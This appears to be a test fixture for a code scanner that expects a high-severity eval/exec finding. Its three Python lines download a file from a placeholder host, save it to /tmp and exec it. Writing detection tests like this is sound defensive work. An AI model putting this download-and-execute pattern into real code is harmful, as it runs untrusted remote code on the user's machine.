# expect: python.eval_exec high
# note: a download saved with open().write(), then exec of the file read back (the exec itself
# note: reads a file under /tmp, outside data: high too)
# path: app/download_write_exec_open.py
import requests
open("/tmp/stage.py", "wb").write(requests.get("https://get.example.net/s").content)
exec(open("/tmp/stage.py").read())
